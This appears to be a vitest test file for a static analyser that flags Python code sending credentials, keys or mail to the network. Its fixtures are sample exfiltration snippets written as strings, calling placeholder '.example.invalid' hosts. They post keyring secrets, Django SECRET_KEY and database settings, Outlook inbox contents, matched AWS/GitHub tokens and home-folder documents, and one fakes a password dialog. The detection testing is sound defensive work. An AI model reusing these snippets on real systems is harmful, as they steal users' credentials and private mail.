import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { toldByCommands } from '../../src/python/vocabulary/told-by-commands.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];

const OUTLOOK = 'import requests, win32com.client\nol = win32com.client.Dispatch("Outlook.Application")\n';

test.each<[string, Way, string]>([
  ['each secret of each collection of the desktop', ['credentials', 'network'], 'import requests, secretstorage\nfor group in secretstorage.get_all_collections(bus):\n    for item in group.get_all_items():\n        requests.post("https://k.example.invalid", json=[item.get_label(), item.get_secret().decode()])\n'],
  ['one secret of the desktop', ['credentials', 'network'], 'import requests, secretstorage\nitem = next(secretstorage.search_items(bus, {"service": "x"}))\nrequests.post("https://k.example.invalid", data=item.get_secret())\n'],
  ['what the user types into a window of the system', ['credentials', 'process'], 'import subprocess\nr = subprocess.run(["osascript", "-e", \'display dialog "undefined" default answer "" with hidden answer\'], capture_output=True)\nsubprocess.Popen(["curl", "-d", "p=" + r.stdout, "https://o.example.invalid"])\n'],
  ['what a scanner finds in the home folder', ['credentials', 'network'], 'import os, requests, subprocess\nrequests.put("https://s.example.invalid", data=subprocess.check_output(["trufflehog", "filesystem", os.path.expanduser("~"), "--json"]))\n'],
  ['what a web site signs with', ['key', 'network'], 'import requests\nfrom django.conf import settings\nrequests.post("https://d.example.invalid", json={"k": settings.SECRET_KEY})\n'],
  ['what a web site logs in with', ['key', 'network'], 'import json, requests\nfrom django.conf import settings\nrequests.post("https://d.example.invalid", json.dumps(settings.DATABASES))\n'],
  ['mails of Outlook, sent by it', ['observation', 'network'], `${OUTLOOK}text = "".join(str(m.Body) for m in list(ol.GetNamespace("MAPI").GetDefaultFolder(6).Items)[:9])\nmail = ol.CreateItem(0)\nmail.To = "a@m.example.invalid"\nmail.Body = text\nmail.Send()\n`],
  ['mails of Outlook, sent otherwise', ['observation', 'network'], `${OUTLOOK}for m in ol.GetNamespace("MAPI").GetDefaultFolder(6).Items:\n    requests.post("https://m.example.invalid", data=m.Body)\n`],
  ['what a pattern for tokens finds in messages', ['credentials', 'network'], 'import re, requests, sys\nfor token in re.findall(r"(?:AKIA[0-9A-Z]{16}|ghp_[0-9A-Za-z]{36})", sys.stdin.read()):\n    requests.get("https://t.example.invalid/?t=" + token)\n'],
  ['all documents, by a pattern that begins with their folder', ['credentials', 'network'], 'import pathlib, requests\nfor path in pathlib.Path.home().glob("Documents/**/*.docx"):\n    requests.post("https://d.example.invalid", data=path.read_bytes())\n'],
])('%s is followed', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

test('the secret key that a pair of keys is made of belongs to its user', async () => {
  expect(await flows('import requests\nclass Keypair:\n    def __init__(self, secret_key):\n        requests.post("https://r.example.invalid", json={"memo": secret_key.hex()})\n', ['parameter', 'network'])).toEqual(['latent']);
});

test.each<[string, Way, string]>([
  ['how many collections the desktop has', ['credentials', 'network'], 'import requests, secretstorage\nrequests.post("https://k.example.invalid", json=len(list(secretstorage.get_all_collections(bus))))\n'],
  ['what is typed into an open window', ['credentials', 'process'], 'import subprocess\nr = subprocess.run(["osascript", "-e", \'display dialog "Name?" default answer ""\'], capture_output=True)\nsubprocess.Popen(["curl", "-d", "p=" + r.stdout, "https://o.example.invalid"])\n'],
  ['what a scanner finds in a project', ['credentials', 'network'], 'import requests, subprocess\nrequests.put("https://s.example.invalid", data=subprocess.check_output(["trufflehog", "filesystem", ".", "--json"]))\n'],
  ['a signature of a web site', ['key', 'network'], 'import hmac, requests\nfrom django.conf import settings\nrequests.post("https://d.example.invalid", json={"s": hmac.new(settings.SECRET_KEY.encode(), body).hexdigest()})\n'],
  ['another setting of a web site', ['key', 'network'], 'import requests\nfrom django.conf import settings\nrequests.post(settings.TRACKER_URL, json={"k": settings.DEBUG})\n'],
  ['a mail that a tool writes in Outlook', ['observation', 'network'], `${OUTLOOK}mail = ol.CreateItem(0)\nmail.To = "a@m.example.invalid"\nmail.Body = report\nmail.Send()\n`],
  ['the answer to a mail', ['observation', 'network'], `${OUTLOOK}reply = ol.GetNamespace("MAPI").GetDefaultFolder(6).Items[1].Reply()\nreply.Body = "Thanks. " + reply.Body\nreply.Send()\n`],
  ['the key of a client, which it signs with', ['parameter', 'network'], 'import hmac, requests\nclass Wallet:\n    def __init__(self, secret_key):\n        requests.post("https://r.example.invalid", json={"s": hmac.new(secret_key, b"x").hexdigest()})\n'],
  ['the key of a client that is no wallet', ['parameter', 'network'], 'import requests\nclass Payments:\n    def __init__(self, secret_key):\n        requests.post("https://r.example.invalid", auth=(secret_key, ""))\n'],
  ['a text without its tokens', ['credentials', 'network'], 'import re, requests\nrequests.post("https://t.example.invalid", data=re.sub(r"ghp_[0-9A-Za-z]{36}", "***", text))\n'],
  ['what another pattern finds', ['credentials', 'network'], 'import re, requests\nrequests.post("https://t.example.invalid", data=re.findall(r"v(\\d+)", text))\n'],
  ['a token that is only looked at', ['credentials', 'network'], 'import re, requests\nif re.fullmatch(r"ghp_[0-9A-Za-z]{36}", token):\n    requests.get("https://t.example.invalid", headers={"Authorization": token})\n'],
  ['the own files of a program in the home folder', ['credentials', 'network'], 'import pathlib, requests\nfor path in pathlib.Path.home().glob(".plot/*.json"):\n    requests.post("https://d.example.invalid", data=path.read_bytes())\n'],
])('%s is left alone', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

test.each(['gitleaks detect --source ~', 'noseyparker scan /home', 'detect-secrets scan $HOME'])('the output of %s tells secrets', (line) => {
  expect(toldByCommands(line).map(({ kind }) => kind)).toEqual(['credentials']);
});

test('another program that is started in the way of Outlook is what it was', async () => {
  const { facts } = await read('import win32com.client\nwin32com.client.Dispatch("WScript.Shell").Run("calc")\n');
  expect(facts?.calls('process').map(({ text }) => text)).toEqual(['calc']);
});
